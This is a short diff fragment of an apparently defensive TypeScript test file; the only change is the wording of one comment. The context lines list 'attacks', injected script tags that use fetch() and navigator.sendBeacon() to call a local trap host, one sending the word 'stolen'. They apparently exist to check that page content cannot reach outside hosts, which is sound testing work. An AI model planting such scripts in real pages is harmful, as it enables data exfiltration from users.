@@ -32,7 +32,7 @@ async function trap() {
   return { port, reached: () => reached }
 }
 
-/** By name: what stands in the page. `AT` is the trap, as a host with its port. */
+/** By name: what is in the page. `AT` is the trap, as a host with its port. */
 const attacks: readonly (readonly [string, string])[] = [
   ['a request of a script', `<script>fetch('http://AT/a', {mode: 'no-cors'})</script>`],
   ['a beacon', `<script>navigator.sendBeacon('http://AT/b', 'stolen')</script>`],
